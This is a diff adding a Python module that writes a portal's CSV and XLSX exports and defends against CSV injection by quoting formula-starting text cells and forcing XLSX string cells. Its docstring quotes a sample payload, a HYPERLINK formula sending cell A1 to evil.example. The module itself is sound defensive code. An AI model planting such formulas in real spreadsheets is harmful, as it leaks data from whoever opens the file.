@@ -1,0 +1,127 @@
+"""The one writer of every CSV and XLSX file the portal makes: safe to open in a spreadsheet.
+
+A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
+Excel, LibreOffice and Google Sheets (OWASP "CSV injection"): a participant's legal name
+``=HYPERLINK("http://evil.example/?x="&A1,"Click")`` would run, with the sheet's other cells, on the
+desk of whoever opens the export (CMS staff open every ACO's). So:
+
+* in a CSV, such a text cell is written with a single quote in front (``'=HYPERLINK(...``), which
+  spreadsheets show as text and people read as the value;
+* in an XLSX, text is always a string cell (``write_string``) in a workbook that never turns
+  strings into formulas or links, so no quote is needed.
+
+Only text is neutralised. Numbers stay numbers: an ``int``, ``float`` or ``Decimal`` is written as
+it is (``-12.5``), and so is a text that is exactly a number (``"-1234.50"``, an amount the caller
+formatted to the cent): neither can run anything.
+
+Every module that writes a CSV or XLSX uses this one (``csv_writer``, ``xlsx_workbook``,
+``xlsx_write``); nothing else imports ``csv.writer`` or ``xlsxwriter`` for an export.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import re
+from collections.abc import Iterable
+from decimal import Decimal
+from typing import TYPE_CHECKING, Any, Protocol
+
+if TYPE_CHECKING:
+    from xlsxwriter.format import Format
+    from xlsxwriter.workbook import Workbook
+    from xlsxwriter.worksheet import Worksheet
+
+# OWASP's list: what makes a spreadsheet read a cell as a formula (or, for tab and CR, what some
+# of them skip before looking for one).
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?")
+
+XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+# A workbook never makes a formula, a link or a number of a string it is given.
+XLSX_OPTIONS: dict[str, Any] = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}
+
+
+def neutralise(text: str) -> str:
+    """``text`` as a CSV cell that no spreadsheet runs: a single quote in front of a formula prefix."""
+    if text.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(text):
+        return "'" + text
+    return text
+
+
+def csv_cell(value: object) -> object:
+    """One value as a CSV cell: None empty, numbers and dates as they are, anything else as
+    neutralised text."""
+    if value is None:
+        return ""
+    if isinstance(value, bool | int | float | Decimal | dt.date | dt.datetime):
+        return value
+    return neutralise(str(value))
+
+
+class _Writable(Protocol):
+    def write(self, s: str, /) -> Any: ...
+
+
+class CSVWriter:
+    """``csv.writer`` with every cell passed through ``csv_cell``."""
+
+    def __init__(self, stream: _Writable, **fmtparams: Any) -> None:
+        self._writer = csv.writer(stream, **fmtparams)
+
+    def writerow(self, row: Iterable[object]) -> Any:
+        return self._writer.writerow([csv_cell(v) for v in row])
+
+    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def csv_writer(stream: _Writable, **fmtparams: Any) -> CSVWriter:
+    """The writer for a CSV export (an ``HttpResponse``, a ``StringIO`` or an open file)."""
+    return CSVWriter(stream, **fmtparams)
+
+
+def xlsx_workbook(target: Any, options: dict[str, Any] | None = None) -> Workbook:
+    """An XlsxWriter workbook (``in_memory`` unless told otherwise) that writes strings only as strings."""
+    import xlsxwriter  # imported when a workbook is made: most requests never make one
+
+    return xlsxwriter.Workbook(target, {"in_memory": True, **(options or {}), **XLSX_OPTIONS})
+
+
+def xlsx_write(
+    sheet: Worksheet,
+    row: int,
+    col: int,
+    value: object,
+    cell_format: Format | None = None,
+    *,
+    date_format: Format | None = None,
+) -> None:
+    """One cell by the value's type: nothing for None, a number, a boolean, a date (``date_format``,
+    else ``cell_format``), or a string cell for anything else, never a formula."""
+    if value is None:
+        return
+    if isinstance(value, bool):
+        sheet.write_boolean(row, col, value, cell_format)
+    elif isinstance(value, int | float | Decimal):
+        sheet.write_number(row, col, float(value), cell_format)
+    elif isinstance(value, dt.datetime):
+        sheet.write_datetime(row, col, value, date_format or cell_format)
+    elif isinstance(value, dt.date):
+        sheet.write_datetime(row, col, dt.datetime.combine(value, dt.time()), date_format or cell_format)
+    else:
+        sheet.write_string(row, col, str(value), cell_format)
+
+
+def xlsx_write_row(
+    sheet: Worksheet,
+    row: int,
+    col: int,
+    values: Iterable[object],
+    cell_format: Format | None = None,
+    *,
+    date_format: Format | None = None,
+) -> None:
+    for offset, value in enumerate(values):
+        xlsx_write(sheet, row, col + offset, value, cell_format, date_format=date_format)
